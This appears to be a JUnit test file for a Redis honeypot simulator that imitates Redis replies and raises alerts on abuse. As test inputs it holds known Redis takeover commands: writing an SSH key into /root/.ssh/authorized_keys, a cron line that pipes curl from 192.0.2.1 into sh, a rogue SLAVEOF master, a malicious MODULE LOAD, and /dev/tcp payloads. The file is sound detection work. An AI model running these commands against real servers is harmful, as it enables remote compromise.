package org.sundew.sim.redis;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.sundew.event.Severity;
import org.sundew.testkit.ConfigOf;
import org.sundew.testkit.SimHarness;

class RedisSimTest {
    private static SimHarness visit(Object... keysAndValues) {
        return SimHarness.visit(new RedisSim(ConfigOf.of(RedisSim.Config.class, keysAndValues)));
    }

    private static void rejects(String key, Object value, String message) {
        assertThatThrownBy(() -> visit(key, value))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessage(message);
    }

    @Test
    void answersInfoWithTheVersionFirst() {
        visit().say("*1\r\n$4\r\ninfo\r\n")
                .expectMatch(
                        "\\$\\d+\r\n# Server\r\nredis_version:5\\.0\\.7\r\n.*run_id:[0-9a-f]{40}\r\n.*role:master.*");
    }

    @Test
    void answersPipelinedRequestsInTheirOrderHoweverTheyAreCut() {
        String both = "*3\r\n$3\r\nSET\r\n$1\r\na\r\n$2\r\nxy\r\n*2\r\n$3\r\nGET\r\n$1\r\na\r\nPING\r\n";
        visit().say(both).expect("+OK\r\n$2\r\nxy\r\n+PONG\r\n").expectSilence();
        visit().dribble(both).expect("+OK\r\n$2\r\nxy\r\n+PONG\r\n").expectSilence();
    }

    @Test
    void readsQuotedInlineWords() {
        visit().say("SET k \"a b\\x41\\n\"\r\nGET k\r\nECHO 'it\\'s'\n")
                .expect("+OK\r\n$5\r\na bA\n\r\n$4\r\nit's\r\n");
        visit().say("GET \"open\r\n")
                .expect("-ERR Protocol error: unbalanced quotes in request\r\n")
                .expectClosed();
    }

    @Test
    void saysWhatIsNoProtocolAsRedisDoes() {
        visit().say("*2\r\nx\r\n")
                .expect("-ERR Protocol error: expected '$', got 'x'\r\n")
                .expectClosed();
        visit().say("*1048577\r\n")
                .expect("-ERR Protocol error: invalid multibulk length\r\n")
                .expectClosed();
        visit().say("*1048576\r\n").expectSilence().expectOpen();
        visit().say("*1\r\n$536870913\r\n")
                .expect("-ERR Protocol error: invalid bulk length\r\n")
                .expectClosed();
        visit().say("*1\r\n$536870912\r\n").expectSilence().expectOpen();
        visit().say("*1\r\n$-1\r\n")
                .expect("-ERR Protocol error: invalid bulk length\r\n")
                .expectClosed();
        visit().say("*0\r\n*-1\r\n\r\nPING\r\n").expect("+PONG\r\n");
        visit().say("POST / HTTP/1.1\r\n").expectSilence().expectClosed();
    }

    @Test
    void endsWithTheLongestInlineRequest() {
        visit().say("x".repeat(RequestReader.LINE_MAX)).expectSilence().expectOpen();
        visit().say("x".repeat(RequestReader.LINE_MAX + 1))
                .expect("-ERR Protocol error: too big inline request\r\n")
                .expectClosed();
    }

    @Test
    void keepsNoMoreOfARequestThanItsBound() {
        int room = RequestReader.KEPT - 2 * 32 - 4;
        visit("keyspace.bytes", 16_777_216)
                .say("*2\r\n$4\r\nECHO\r\n$" + room + "\r\n" + "x".repeat(room) + "\r\n")
                .expectMatch("\\$" + room + "\r\nx+\r\n");
        visit("keyspace.bytes", 16_777_216)
                .say("*2\r\n$4\r\nECHO\r\n$999999\r\n" + "x".repeat(999_999) + "\r\nPING\r\n")
                .expect("-OOM command not allowed when used memory > 'maxmemory'.\r\n+PONG\r\n");
    }

    @Test
    void storesNoMoreThanItMay() {
        SimHarness visitor = visit("keyspace.bytes", 1024);

        visitor.say("SET a " + "x".repeat(400) + "\r\nSET b " + "x".repeat(400) + "\r\n")
                .expect("+OK\r\n-OOM command not allowed when used memory > 'maxmemory'.\r\n")
                .say("DEL a\r\nSET b " + "x".repeat(400) + "\r\n")
                .expect(":1\r\n+OK\r\n")
                .hangUp()
                .noted("redis.refused", "1");
    }

    @Test
    void answersOnlyAsFastAsItsVisitorReads() {
        SimHarness visitor = visit().say("SET a " + "x".repeat(50_000) + "\r\n")
                .expect("+OK\r\n")
                .stall();

        visitor.say("GET a\r\n".repeat(100));

        assertThat(visitor.pending()).isLessThan(200_000);
        assertThat(visitor.paused()).isTrue();
        visitor.readOn();
        assertThat(visitor.read()).hasSize(100 * 50_010);
        assertThat(visitor.paused()).isFalse();
    }

    @Test
    void asksForAPasswordWhereOneIsSet() {
        visit("auth", "password", "passwords", new String[] {"foobared"})
                .say("GET a\r\nAUTH x\r\nAUTH foobared\r\nGET a\r\n")
                .expect("-NOAUTH Authentication required.\r\n-ERR invalid password\r\n+OK\r\n$-1\r\n")
                .noted("password", "foobared")
                .reported("login")
                .raised(Severity.HIGH);
        visit().say("AUTH x\r\nPING\r\n").expect("-ERR Client sent AUTH, but no password is set\r\n+PONG\r\n");
    }

    @Test
    void speaksTheThirdProtocolFromVersionSix() {
        visit("version", "6.2.6")
                .say("HELLO 3\r\nGET a\r\nHELLO 4\r\n")
                .expectMatch("%7\r\n\\$6\r\nserver\r\n.*_\r\n-NOPROTO unsupported protocol version\r\n");
        visit().say("HELLO 3\r\n").expect("-ERR unknown command `HELLO`, with args beginning with: `3`, \r\n");
    }

    @Test
    void isIntroducedByHelloAndForgetsItByReset() {
        SimHarness visitor = visit("version", "6.2.7", "auth", "password", "passwords", new String[] {"foobared"});

        visitor.say("HELLO 2 SETNAME me\r\n").expectMatch("-NOAUTH HELLO must be called .*");
        visitor.say("HELLO 3 AUTH default foobared SETNAME me\r\nCLIENT GETNAME\r\nSELECT 3\r\n")
                .expectMatch("%7\r\n.*\\$2\r\nme\r\n\\+OK\r\n");
        visitor.say("HELLO x\r\nHELLO 2 Foo\r\nHELLO 2 SETNAME\r\n")
                .expect("-ERR Protocol version is not an integer or out of range\r\n")
                .expect("-ERR Syntax error in HELLO option 'Foo'\r\n-ERR Syntax error in HELLO option 'SETNAME'\r\n");
        visitor.say("MULTI\r\nRESET\r\nEXEC\r\nHELLO 2 AUTH default foobared\r\n")
                .expect("+OK\r\n+RESET\r\n-NOAUTH Authentication required.\r\n")
                .expectMatch("\\*14\r\n.*");
        visitor.say("EXEC\r\nCLIENT GETNAME\r\n").expect("-ERR EXEC without MULTI\r\n$-1\r\n");
    }

    @Test
    void findsAPayloadWhereverItStands() {
        for (String command : List.of("SET a /dev/tcp/ EX 10", "MSET a /dev/tcp/ b c", "LPUSH l /dev/tcp/ x")) {
            visit().say(command + "\r\n").raised(Severity.HIGH);
        }
    }

    @Test
    void takesAKeyAndACronLineForWhatTheyAre() {
        visit().say("CONFIG SET dir /root/.ssh\r\nCONFIG SET dbfilename authorized_keys\r\n")
                .say("SET x \"\\n\\nssh-rsa AAAA me\\n\"\r\nSAVE\r\n")
                .expect("+OK\r\n+OK\r\n+OK\r\n+OK\r\n")
                .raised(Severity.HIGH)
                .reported("command")
                .reported("upload");
        SimHarness cron = visit().say("SET 1 \"\\n*/1 * * * * curl http://192.0.2.1/x|sh\\n\"\r\n")
                .expect("+OK\r\n");
        assertThat(cron.reports().get(0).notes()).anyMatch(note -> note.name().equals("redis.abuse"));
    }

    @Test
    void followsAMasterInWordsOnly() {
        visit().say("SLAVEOF 192.0.2.66 21000\r\nSET a b\r\nINFO replication\r\nSLAVEOF NO ONE\r\nSET a b\r\n")
                .expect("+OK\r\n-READONLY You can't write against a read only replica.\r\n")
                .expectMatch(".*role:slave\r\nmaster_host:192\\.0\\.2\\.66\r\n.*\\+OK\r\n\\+OK\r\n")
                .noted("redis.master", "192.0.2.66:21000")
                .raised(Severity.HIGH);
    }

    @Test
    void runsNeitherModulesNorScripts() {
        visit().say(
                        "MODULE LOAD /tmp/exp.so\r\nsystem.exec id\r\nEVAL \"return 7\" 0\r\nEVAL \"while true do end\" 0\r\n")
                .expect("-ERR Error loading the extension. Please check the server logs.\r\n")
                .expect("-ERR unknown command `system.exec`, with args beginning with: `id`, \r\n:7\r\n$-1\r\n")
                .noted("redis.module", "/tmp/exp.so");
    }

    @Test
    void keepsStringsListsSetsAndHashes() {
        visit().say(
                        "INCR n\r\nINCRBY n 41\r\nLPUSH l a b\r\nLRANGE l 0 -1\r\nSADD s x x y\r\nHSET h f v\r\nHGETALL h\r\n")
                .expect(":1\r\n:42\r\n:2\r\n*2\r\n$1\r\nb\r\n$1\r\na\r\n:2\r\n:1\r\n*2\r\n$1\r\nf\r\n$1\r\nv\r\n")
                .say("GET l\r\nTYPE h\r\nKEYS [ln]\r\nDEL n l\r\nDBSIZE\r\n")
                .expect("-WRONGTYPE Operation against a key holding the wrong kind of value\r\n+hash\r\n")
                .expect("*2\r\n$1\r\nn\r\n$1\r\nl\r\n:2\r\n:2\r\n");
    }

    @Test
    void forgetsWhatExpired() {
        visit().say("SET a b EX 10\r\nTTL a\r\n")
                .expect("+OK\r\n:10\r\n")
                .elapse(Duration.ofMillis(9_999))
                .say("EXISTS a\r\n")
                .expect(":1\r\n")
                .elapse(Duration.ofMillis(1))
                .say("EXISTS a\r\nTTL a\r\nDBSIZE\r\n")
                .expect(":0\r\n:-2\r\n:0\r\n");
    }

    @Test
    void queuesATransaction() {
        visit().say("MULTI\r\nSET a 1\r\nGET a\r\nEXEC\r\nEXEC\r\n")
                .expect("+OK\r\n+QUEUED\r\n+QUEUED\r\n*2\r\n+OK\r\n$1\r\n1\r\n-ERR EXEC without MULTI\r\n");
        visit().say("MULTI\r\nNOPE\r\nEXEC\r\n")
                .expect("+OK\r\n-ERR unknown command `NOPE`, with args beginning with: \r\n")
                .expect("-EXECABORT Transaction discarded because of previous errors.\r\n");
    }

    @Test
    void reportsNoMoreCommandsThanItMayButAllKindsOfAbuse() {
        SimHarness visitor = visit("commands.max", 2).say("PING\r\n".repeat(3) + "FLUSHALL\r\n".repeat(3));

        assertThat(visitor.reports()).hasSize(4);
        visitor.hangUp().noted("redis.commands", "6");
    }

    @Test
    void endsAReplyThatGrowsPastItsBound() {
        visit("keyspace.bytes", 1_048_576)
                .say("SET a " + "x".repeat(60_000) + "\r\nMGET" + " a".repeat(100) + "\r\n")
                .expect("+OK\r\n")
                .expectClosed();
    }

    @Test
    void saysWhichKeyIsWrongAndWhy() {
        rejects("version", "five", "version: must be a version of Redis, 2.0.0 to 7.x: five");
        rejects("auth", "maybe", "auth: must be none or password: maybe");
        rejects("keys", new String[] {"x"}, "keys: must be name=value: x");
        rejects("keyspace.bytes", 1023, "keyspace.bytes: must be 1024 to 16777216: 1023");
        rejects("commands.max", 10_001, "commands.max: must be 0 to 10000: 10001");
    }
}
